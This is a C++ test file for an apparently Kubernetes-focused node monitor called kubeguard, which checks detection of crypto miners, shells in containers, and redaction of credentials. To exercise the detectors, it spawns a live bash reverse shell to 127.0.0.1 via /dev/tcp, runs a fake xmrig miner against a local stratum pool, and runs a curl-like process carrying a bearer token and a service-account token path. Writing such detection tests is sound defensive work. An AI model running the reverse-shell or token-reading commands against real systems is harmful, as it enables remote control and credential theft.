// kubeguard node watch on real processes of this machine: a fake miner that
// speaks stratum to a local pool, a reverse shell to 127.0.0.1, shells and
// foreign programs in containers (cgroups of their own, in containerd's
// layout, where the machine lets us create them), and ordinary processes
// that must raise nothing. Plus the cgroup layouts of each runtime, the
// /proc/net tables and stratum packets as recorded text. Every wait is bounded.
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <filesystem>
#include <map>
#include <memory>
#include <mutex>
#include <random>
#include <thread>

#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>

#include "doc/source.h"
#include "engine/temp_tree.h"
#include "fronts/node/monitor.h"
#include "k8s/object.h"
#include "node/cgroup.h"
#include "node/net.h"
#include "node/stratum_sniffer.h"
#include "node/watch_support.h"
#include "support/test_support.h"

namespace kg {
namespace {

using testing::cgroup2_root;
using testing::Processes;
using testing::random_hex;
using testing::spawn;
using testing::TestContainer;

using namespace std::chrono_literals;
using Clock = std::chrono::steady_clock;

std::string fixture(std::string_view name) { return testing::source("tests/node/data/" + std::string(name)); }

// ---------------------------------------------------------------- recorded text

TEST(NodeCgroup, LayoutsOfEachRuntime) {
  struct Case {
    const char* file;
    const char* runtime;
    const char* id_prefix;
    const char* pod_uid;
    const char* qos;
  };
  for (const Case& c : {
           Case{"containerd-systemd-v2.txt", "containerd", "4c01db0b339c", "6f1d2c8e-3b5a-4f0e-9c1d-2a7b8e4f5d60",
                "burstable"},
           Case{"containerd-cgroupfs-v1.txt", "", "9f8e7d6c5b4a", "0b4c7a56-2f4e-4d8e-b1f3-7e9a6c5d4b32", "besteffort"},
           Case{"crio-systemd-v1.txt", "cri-o", "b2c3d4e5f607", "8a3e1f20-5c6d-4b7a-8e9f-0a1b2c3d4e5f", "guaranteed"},
           Case{"docker-systemd-v2.txt", "docker", "0123456789ab", "1c2d3e4f-5a6b-7c8d-9e0f-a1b2c3d4e5f6",
                "besteffort"},
           Case{"docker-plain-v1.txt", "docker", "fedcba987654", "", ""},
       }) {
    auto id = node::container_of_cgroup(testing::read_file(fixture(std::string("cgroup/") + c.file)));
    ASSERT_TRUE(id) << c.file;
    EXPECT_EQ(id->runtime, c.runtime) << c.file;
    EXPECT_EQ(id->container_id.size(), 64u) << c.file;
    EXPECT_TRUE(id->container_id.starts_with(c.id_prefix)) << c.file;
    EXPECT_EQ(id->pod_uid, c.pod_uid) << c.file;
    EXPECT_EQ(id->qos, c.qos) << c.file;
  }
  for (const char* host : {"host-process-v2.txt", "host-process-v1.txt", "crio-conmon-v2.txt"}) {
    EXPECT_FALSE(node::container_of_cgroup(testing::read_file(fixture(std::string("cgroup/") + host)))) << host;
  }
}

TEST(NodeNet, ProcNetTables) {
  // As the kernel writes them: 127.0.0.1:45700 <- 127.0.0.1:51234 established,
  // a listener, and an IPv6 loopback connection.
  std::string tcp =
      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
      "   0: 0100007F:B284 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 41001 1 0 100 0 0 "
      "10 0\n"
      "   1: 0100007F:C822 0100007F:B284 01 00000000:00000000 00:00000000 00000000  1000        0 41002 1 0 20 4 30 "
      "10 -1\n";
  auto sockets = node::parse_net_table(tcp, node::Protocol::Tcp);
  ASSERT_EQ(sockets.size(), 2u);
  EXPECT_EQ(sockets[0].local_port, 45700);
  EXPECT_EQ(sockets[0].state, 10);
  EXPECT_EQ(sockets[1].local_address, "127.0.0.1");
  EXPECT_EQ(sockets[1].local_port, 51234);
  EXPECT_EQ(sockets[1].remote_port, 45700);
  EXPECT_TRUE(sockets[1].established());
  EXPECT_EQ(sockets[1].uid, 1000u);
  EXPECT_EQ(sockets[1].inode, 41002u);
  std::string tcp6 =
      "  sl  local_address                         remote_address                        st tx_queue rx_queue tr "
      "tm->when retrnsmt   uid  timeout inode\n"
      "   0: 00000000000000000000000001000000:C822 00000000000000000000000001000000:0D05 01 00000000:00000000 "
      "00:00000000 00000000     0        0 41003 1 0 20 4 30 10 -1\n"
      "   1: garbage\n";
  sockets = node::parse_net_table(tcp6, node::Protocol::Tcp);
  ASSERT_EQ(sockets.size(), 1u);
  EXPECT_EQ(sockets[0].local_address, "::1");
  EXPECT_EQ(sockets[0].remote_port, 3333);
}

TEST(NodeNet, StratumPayloadsAndPackets) {
  EXPECT_EQ(node::stratum_method(R"({"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]})"),
            "mining.subscribe");
  EXPECT_EQ(node::stratum_method(R"({"params":["w","x"],"id":2,"method":"mining.authorize"})"), "mining.authorize");
  EXPECT_EQ(node::stratum_method(
                R"({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"w","pass":"x","agent":"XMRig/6.21"}})"),
            "login");
  EXPECT_EQ(node::stratum_method(R"({"jsonrpc":"2.0","method":"eth_getBalance","params":[]})"), "");
  EXPECT_EQ(node::stratum_method("GET /mining.subscribe HTTP/1.1\r\n"), "");
  // An IPv4 TCP packet 127.0.0.1:51234 -> 127.0.0.1:45700 with the subscribe.
  std::string payload = R"({"id":1,"method":"mining.subscribe","params":[]})";
  std::string packet(40, '\0');
  packet[0] = 0x45;
  uint16_t total = static_cast<uint16_t>(40 + payload.size());
  packet[2] = static_cast<char>(total >> 8);
  packet[3] = static_cast<char>(total & 0xff);
  packet[9] = 6;
  for (int i : {12, 16}) {
    packet[i] = 127;
    packet[i + 3] = 1;
  }
  packet[20] = static_cast<char>(51234 >> 8);
  packet[21] = static_cast<char>(51234 & 0xff);
  packet[22] = static_cast<char>(45700 >> 8);
  packet[23] = static_cast<char>(45700 & 0xff);
  packet[32] = 0x50;  // data offset: 5 words
  packet += payload;
  node::StratumPacket p;
  ASSERT_TRUE(node::parse_stratum_packet(packet, p));
  EXPECT_EQ(p.source_address, "127.0.0.1");
  EXPECT_EQ(p.source_port, 51234);
  EXPECT_EQ(p.destination_port, 45700);
  EXPECT_EQ(p.method, "mining.subscribe");
  EXPECT_FALSE(node::parse_stratum_packet(packet.substr(0, 30), p));  // truncated headers
}

// ---------------------------------------------------------------- real processes

// A TCP listener on 127.0.0.1: a stratum pool (answers each request line) or
// a shell's listener (sends what it is given). It records what it receives.
class Listener {
 public:
  explicit Listener(std::vector<uint16_t> ports, bool stratum) : stratum_(stratum) {
    for (uint16_t port : ports) {
      fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
      int one = 1;
      ::setsockopt(fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
      sockaddr_in addr{};
      addr.sin_family = AF_INET;
      addr.sin_port = htons(port);
      addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
      if (::bind(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0 && ::listen(fd_, 8) == 0) {
        socklen_t len = sizeof addr;
        ::getsockname(fd_, reinterpret_cast<sockaddr*>(&addr), &len);
        port_ = ntohs(addr.sin_port);
        break;
      }
      ::close(fd_);
      fd_ = -1;
    }
    if (fd_ >= 0) thread_ = std::thread([this] { serve(); });
  }
  ~Listener() {
    done_ = true;
    if (thread_.joinable()) thread_.join();
    for (int c : clients_) ::close(c);
    if (fd_ >= 0) ::close(fd_);
  }
  Listener(const Listener&) = delete;
  Listener& operator=(const Listener&) = delete;

  uint16_t port() const { return port_; }
  std::string received() {
    std::lock_guard lock(mutex_);
    return received_;
  }
  size_t clients() {
    std::lock_guard lock(mutex_);
    return clients_.size();
  }
  void say(const std::string& text) {
    std::lock_guard lock(mutex_);
    for (int c : clients_) ::send(c, text.data(), text.size(), MSG_NOSIGNAL);
  }

 private:
  void serve() {
    while (!done_) {
      std::vector<pollfd> fds{{fd_, POLLIN, 0}};
      {
        std::lock_guard lock(mutex_);
        for (int c : clients_) fds.push_back({c, POLLIN, 0});
      }
      if (::poll(fds.data(), fds.size(), 50) <= 0) continue;
      if (fds[0].revents & POLLIN) {
        int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
        std::lock_guard lock(mutex_);
        if (c >= 0) clients_.push_back(c);
      }
      for (size_t i = 1; i < fds.size(); ++i) {
        if (!(fds[i].revents & (POLLIN | POLLHUP))) continue;
        char buf[1024];
        ssize_t n = ::read(fds[i].fd, buf, sizeof buf);
        std::lock_guard lock(mutex_);
        if (n <= 0) {  // the peer closed: stop polling it
          std::erase(clients_, fds[i].fd);
          ::close(fds[i].fd);
          continue;
        }
        received_.append(buf, static_cast<size_t>(n));
        if (stratum_) {
          std::string answer =
              R"({"id":1,"result":[[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"]],"08000002",4],"error":null})"
              "\n";
          ::send(fds[i].fd, answer.data(), answer.size(), MSG_NOSIGNAL);
        }
      }
    }
  }

  bool stratum_;
  int fd_ = -1;
  uint16_t port_ = 0;
  std::atomic<bool> done_{false};
  std::thread thread_;
  std::mutex mutex_;
  std::vector<int> clients_;
  std::string received_;
};

// The monitor under test, stepped on the test's thread.
struct Watch {
  struct Found {
    rules::Finding finding;
    Clock::time_point at;
  };
  engine::Config config;
  node::PodIndex pods;
  std::vector<doc::Document> documents;
  std::vector<Found> found;
  std::unique_ptr<node::Monitor> monitor;
  node::MonitorSources sources;

  void add_pods(std::string_view yaml) {
    doc::load_text(
        yaml, "pods.yaml", [&](doc::Document&& d) { documents.push_back(std::move(d)); }, [](doc::LoadError&&) {});
    for (const auto& d : documents) {
      k8s::Extraction x;
      k8s::extract_objects(d, x);
      for (const auto& o : x.objects) pods.add(o, config.settings.sidecar_profiles);
    }
  }
  void start(node::MonitorOptions options = {}) {
    monitor = std::make_unique<node::Monitor>(options, config, pods, [this](rules::Finding&& f) {
      found.push_back(Found{std::move(f), Clock::now()});
    });
    sources = monitor->start();
  }
  static int pid_of(const rules::Finding& f) { return f.path.starts_with("pid ") ? std::atoi(f.path.c_str() + 4) : 0; }
  // Steps until `rule` is raised about `pid` (0: any process), or `timeout`
  // passes; prints how long after `since` it came.
  const Found* wait_for(std::string_view rule, pid_t pid, std::chrono::milliseconds timeout,
                        Clock::time_point since = Clock::now()) {
    auto deadline = Clock::now() + timeout;
    for (;;) {
      for (const auto& f : found) {
        if (f.finding.rule_id == rule && (pid == 0 || pid_of(f.finding) == pid)) {
          auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(f.at - since).count();
          std::printf("[ raised   ] %s after %lld ms: %s\n", f.finding.rule_id.c_str(), static_cast<long long>(ms),
                      f.finding.message.c_str());
          return &f;
        }
      }
      if (Clock::now() >= deadline) return nullptr;
      monitor->step(20ms);
    }
  }
  void run_for(std::chrono::milliseconds d) {
    auto deadline = Clock::now() + d;
    while (Clock::now() < deadline) monitor->step(20ms);
  }
  std::vector<const rules::Finding*> about(pid_t pid) const {
    std::vector<const rules::Finding*> out;
    for (const auto& f : found) {
      if (pid_of(f.finding) == pid) out.push_back(&f.finding);
    }
    return out;
  }
};

// The issue's bound: raised within a second of the process starting.
constexpr auto kWithin = 1000ms;
// How long a test waits before calling a detection missing (a hang guard).
constexpr auto kGiveUp = 5s;

std::string fake_miner_as(const testing::TempTree& tree, std::string_view name) {
  std::string link = tree.path(std::string(name));
  std::filesystem::create_symlink(KG_FAKE_MINER, link);
  return link;
}

TEST(NodeWatch, FakeMinerSpeakingStratumToALocalPool) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root (process connector, packet socket, /proc of every process)";
  Listener pool(node::MonitorOptions::default_pool_ports(), true);
  ASSERT_NE(pool.port(), 0) << "no mining-pool port free on 127.0.0.1";
  testing::TempTree tree;
  Watch watch;
  watch.start();
  EXPECT_TRUE(watch.sources.process_events) << (watch.sources.notes.empty() ? "" : watch.sources.notes[0]);
  Processes procs;
  auto t0 = Clock::now();
  pid_t miner =
      procs.add(spawn({fake_miner_as(tree, "xmrig"), "-o", "stratum+tcp://127.0.0.1:" + std::to_string(pool.port()),
                       "-u", "kgwallet", "--donate-level", "1", "--seconds", "8"}));
  const auto* process = watch.wait_for("KG-RT-001", miner, kGiveUp, t0);
  ASSERT_NE(process, nullptr) << "the miner's command line was not raised";
  EXPECT_LT(process->at - t0, kWithin);
  EXPECT_NE(process->finding.message.find("xmrig"), std::string::npos);
  const auto* connection = watch.wait_for("KG-RT-003", miner, kGiveUp, t0);
  ASSERT_NE(connection, nullptr) << "the pool connection was not raised";
  EXPECT_LT(connection->at - t0, kWithin);
  EXPECT_NE(connection->finding.message.find(std::to_string(pool.port())), std::string::npos);
  if (watch.sources.sniffer) {
    const auto* wire = watch.wait_for("KG-RT-004", miner, kGiveUp, t0);
    ASSERT_NE(wire, nullptr) << "stratum on the wire was not raised";
    EXPECT_LT(wire->at - t0, kWithin);
  }
  // The listener really was spoken to in stratum.
  EXPECT_NE(pool.received().find("mining.subscribe"), std::string::npos);
  EXPECT_EQ(watch.about(miner).size(), watch.sources.sniffer ? 3u : 2u);
}

TEST(NodeWatch, StealthMinerOnlyItsTrafficGivesItAway) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root (packet socket)";
  // An ordinary name and no pool URL on the command line, on a port that is
  // no pool's: only the stratum payload tells.
  Listener pool({0}, true);
  testing::TempTree tree;
  Watch watch;
  watch.start();
  if (!watch.sources.sniffer) GTEST_SKIP() << watch.sources.notes.back();
  Processes procs;
  auto t0 = Clock::now();
  pid_t miner = procs.add(spawn(
      {fake_miner_as(tree, "kworker-helper"), "-o", "127.0.0.1:" + std::to_string(pool.port()), "--seconds", "8"}));
  const auto* wire = watch.wait_for("KG-RT-004", miner, kGiveUp, t0);
  ASSERT_NE(wire, nullptr);
  EXPECT_LT(wire->at - t0, kWithin);
  EXPECT_NE(wire->finding.message.find("mining.subscribe"), std::string::npos);
  watch.run_for(300ms);
  for (const auto* f : watch.about(miner)) EXPECT_EQ(f->rule_id, "KG-RT-004") << f->message;
}

TEST(NodeWatch, ReverseShellToLoopback) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root (/proc of every process)";
  Listener attacker({0}, false);
  ASSERT_NE(attacker.port(), 0);
  Watch watch;
  watch.start();
  Processes procs;
  auto t0 = Clock::now();
  pid_t shell = procs.add(
      spawn({"/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/" + std::to_string(attacker.port()) + " 0>&1"}));
  const auto* found = watch.wait_for("KG-RT-002", 0, kGiveUp, t0);
  ASSERT_NE(found, nullptr) << "the reverse shell was not raised";
  EXPECT_LT(found->at - t0, kWithin);
  // The shell answers on the socket: it really is a reverse shell.
  for (int i = 0; i < 100 && attacker.clients() == 0; ++i) watch.run_for(20ms);
  attacker.say("echo kg-$((40+2))\n");
  for (int i = 0; i < 100 && attacker.received().find("kg-42") == std::string::npos; ++i) watch.run_for(20ms);
  EXPECT_NE(attacker.received().find("kg-42"), std::string::npos);
  attacker.say("exit\n");
  (void)shell;
}

const char* kPods = R"(apiVersion: v1
kind: Pod
metadata:
  name: web-7d9c
  namespace: shop
  uid: @UID@
  annotations:
    sidecar.istio.io/status: '{"containers":["istio-proxy"],"initContainers":["istio-init"]}'
spec:
  containers:
  - name: web
    image: registry.example.com/shop/web:1.4.2
    command: [/app/web]
    livenessProbe:
      exec: {command: [sh, -c, "test -f /tmp/ready"]}
  - name: istio-proxy
    image: docker.io/istio/proxyv2:1.22.0
status:
  containerStatuses:
  - {name: web, containerID: "containerd://@WEB@"}
  - {name: istio-proxy, containerID: "containerd://@PROXY@"}
)";

std::string replace_all(std::string text, std::string_view from, std::string_view to) {
  for (size_t at = text.find(from); at != std::string::npos; at = text.find(from, at + to.size())) {
    text.replace(at, from.size(), to);
  }
  return text;
}

TEST(NodeWatch, ShellsAndForeignProcessesInContainers) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root (cgroups)";
  TestContainer web;
  if (!web.ok()) GTEST_SKIP() << "cannot create cgroups here (no writable cgroup v2 hierarchy)";
  // The proxy's cgroup under the same pod: same UID, another container ID.
  std::string root = cgroup2_root();
  std::string uid_ = replace_all(web.pod_uid(), "-", "_");
  std::string proxy_id = random_hex(64);
  std::string proxy_dir = root + "/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod" + uid_ +
                          ".slice/cri-containerd-" + proxy_id + ".scope";
  ASSERT_EQ(::mkdir(proxy_dir.c_str(), 0755), 0);
  struct RemoveDir {
    std::string dir;
    ~RemoveDir() {
      for (int i = 0; i < 50 && ::rmdir(dir.c_str()) != 0 && errno == EBUSY; ++i) std::this_thread::sleep_for(20ms);
    }
  } remove_proxy{proxy_dir};
  std::string proxy_procs = proxy_dir + "/cgroup.procs";

  Watch watch;
  watch.add_pods(
      replace_all(replace_all(replace_all(kPods, "@UID@", web.pod_uid()), "@WEB@", web.id()), "@PROXY@", proxy_id));
  testing::TempTree tree;
  std::string app = tree.path("web");  // the application: not a shell
  std::filesystem::create_symlink("/bin/sleep", app);
  std::string pilot = tree.path("pilot-agent");  // what istio-proxy runs
  std::filesystem::create_symlink("/bin/sleep", pilot);

  Processes procs;
  pid_t web_main = procs.add(spawn({app, "20"}, web.procs()));
  pid_t proxy_main = procs.add(spawn({pilot, "20"}, proxy_procs));
  std::this_thread::sleep_for(100ms);
  watch.start();

  auto t0 = Clock::now();
  // Two commands each, so the shells stay shells (a lone command is exec'd in place).
  pid_t probe = procs.add(spawn({"/bin/sh", "-c", "sleep 3; true"}, web.procs()));       // the liveness probe's shell
  pid_t intruder = procs.add(spawn({"/bin/bash", "-c", "sleep 3; true"}, web.procs()));  // nobody declared bash
  pid_t payload = procs.add(spawn({"/bin/sleep", "3"}, proxy_procs));                    // not a program of istio-proxy
  const auto* shell = watch.wait_for("KG-RT-005", intruder, kGiveUp, t0);
  ASSERT_NE(shell, nullptr) << "the shell in the web container was not raised";
  EXPECT_LT(shell->at - t0, kWithin);
  EXPECT_EQ(shell->finding.object.display(), "Pod shop/web-7d9c");
  EXPECT_EQ(shell->finding.container, "web");
  EXPECT_NE(shell->finding.message.find("registry.example.com/shop/web:1.4.2"), std::string::npos);
  const auto* sidecar = watch.wait_for("KG-RT-006", payload, kGiveUp, t0);
  ASSERT_NE(sidecar, nullptr) << "the foreign process in istio-proxy was not raised";
  EXPECT_LT(sidecar->at - t0, kWithin);
  EXPECT_EQ(sidecar->finding.container, "istio-proxy");
  EXPECT_EQ(sidecar->finding.container_role, "injected-sidecar");
  std::string apt = "/usr/bin/apt-get";
  pid_t installer = 0;
  if (::access(apt.c_str(), X_OK) == 0) {
    installer = procs.add(spawn({apt, "--version"}, web.procs()));
    EXPECT_NE(watch.wait_for("KG-RT-005", installer, kGiveUp, t0), nullptr) << "apt-get in the web container";
  }
  watch.run_for(300ms);
  for (pid_t quiet : {web_main, proxy_main, probe}) {
    for (const auto* f : watch.about(quiet))
      ADD_FAILURE() << "pid " << quiet << ": " << f->rule_id << " " << f->message;
  }
  for (pid_t loud : {intruder, payload}) EXPECT_EQ(watch.about(loud).size(), 1u) << loud;
}

TEST(NodeWatch, OrdinaryProcessesRaiseNothing) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root (/proc of every process)";
  Listener web({0}, false);
  testing::TempTree tree;
  Watch watch;
  watch.start();
  Processes procs;
  std::vector<pid_t> ordinary;
  ordinary.push_back(procs.add(spawn({"/bin/sleep", "2"})));
  ordinary.push_back(procs.add(spawn({"/bin/ls", "/"})));
  ordinary.push_back(procs.add(spawn({"/bin/sh", "-c", "echo hello; sleep 1"})));
  ordinary.push_back(procs.add(spawn({"/bin/bash", "-c", "grep -c xmrig /dev/null; true"})));
  // A client on an ordinary port speaking HTTP.
  ordinary.push_back(procs.add(spawn({fake_miner_as(tree, "backup-agent"), "-o",
                                      "127.0.0.1:" + std::to_string(web.port()), "--plain", "--seconds", "2"})));
  TestContainer shell_app;  // a container whose entrypoint is a shell script may start shells
  if (shell_app.ok()) {
    ordinary.push_back(procs.add(spawn({"/bin/sh", "-c", "sleep 2; true"}, shell_app.procs())));
    std::this_thread::sleep_for(100ms);
    ordinary.push_back(procs.add(spawn({"/bin/sh", "-c", "sleep 1; true"}, shell_app.procs())));
  }
  watch.run_for(1500ms);
  EXPECT_NE(web.received().find("GET / HTTP/1.0"), std::string::npos);
  for (pid_t pid : ordinary) {
    for (const auto* f : watch.about(pid)) ADD_FAILURE() << "pid " << pid << ": " << f->rule_id << " " << f->message;
  }
  EXPECT_GT(watch.monitor->processes_seen(), 5u);
}

TEST(NodeWatch, PollingWithoutTheProcessConnector) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root (/proc of every process)";
  testing::TempTree tree;
  Watch watch;
  node::MonitorOptions options;
  options.process_events = false;
  options.sniff = false;
  watch.start(options);
  EXPECT_FALSE(watch.sources.process_events);
  Processes procs;
  auto t0 = Clock::now();
  std::string miner = tree.path("xmrig");
  std::filesystem::create_symlink("/bin/sleep", miner);
  pid_t pid = procs.add(spawn({miner, "3"}));
  const auto* found = watch.wait_for("KG-RT-001", pid, kGiveUp, t0);
  ASSERT_NE(found, nullptr);
  EXPECT_LT(found->at - t0, kWithin);
}

// Without exec events, a process first seen running one program (a shell, or
// a child between fork and exec) that then execs another keeps its PID and
// start time: the walk of /proc must still look at what it runs now.
TEST(NodeWatch, PollingSeesTheProgramAProcessExecsLater) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root (/proc of every process)";
  testing::TempTree tree;
  Watch watch;
  node::MonitorOptions options;
  options.process_events = false;
  options.sniff = false;
  watch.start(options);
  Processes procs;
  std::string miner = tree.path("xmrig");
  std::filesystem::create_symlink("/bin/sleep", miner);
  // Long enough as a shell for several polls (250 ms apart) to see it so.
  pid_t pid = procs.add(spawn({"/bin/sh", "-c", "sleep 1.5; exec " + miner + " 3"}));
  const auto* found = watch.wait_for("KG-RT-001", pid, kGiveUp);
  ASSERT_NE(found, nullptr) << "the miner the shell became was never looked at";
}

}  // namespace
}  // namespace kg

namespace kg {
namespace {

TEST(NodeWatch, CredentialsInCommandLinesAreNotQuoted) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root (/proc of every process)";
  Listener server({0}, false);
  testing::TempTree tree;
  Watch watch;
  watch.start();
  testing::Processes procs;
  // A client named curl that calls the API server with a bearer token written
  // on its command line (the stand-in ignores the arguments it does not know).
  pid_t pid = procs.add(testing::spawn({fake_miner_as(tree, "curl"), "-o", "127.0.0.1:" + std::to_string(server.port()),
                                        "--plain", "--seconds", "3", "--url=https://kubernetes.default/api/v1/secrets",
                                        "--header=Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.c2VjcmV0",
                                        "--token-file=/var/run/secrets/kubernetes.io/serviceaccount/token"}));
  const auto* found = watch.wait_for("KG-RT-007", pid, kGiveUp);
  ASSERT_NE(found, nullptr);
  EXPECT_EQ(found->finding.message.find("eyjhbgcioijsuzi1nij9"), std::string::npos) << found->finding.message;
  EXPECT_EQ(found->finding.message.find("eyJhbGciOiJSUzI1NiJ9"), std::string::npos) << found->finding.message;
  EXPECT_NE(found->finding.message.find("<redacted>"), std::string::npos) << found->finding.message;
}

}  // namespace
}  // namespace kg
